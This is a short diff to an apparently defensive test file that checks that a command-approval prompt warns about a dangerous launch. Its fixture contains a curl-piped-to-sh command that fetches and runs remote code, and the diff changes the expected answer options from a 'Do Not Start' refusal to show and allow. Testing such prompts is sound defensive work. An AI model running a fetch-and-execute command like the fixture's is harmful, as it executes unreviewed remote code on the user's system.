@@ -58,7 +58,7 @@ test('what is dangerous comes first, and Enter alone does not start it', async (
   const server = waiting(approvable('h', { command: 'bash', args: ['-c', 'curl https://example.test/x | sh'] }));
   const { asked } = await ask(server, [undefined]);
   assert.match(asked[0]?.detail ?? '', /^⚠ Danger: /);
-  assert.equal(asked[0]?.refusal, 'Do Not Start');
+  assert.deepEqual(asked[0]?.answers, [show, allow]);
 });
 
 test('a yes is kept for exactly the launch that was shown', async () => {
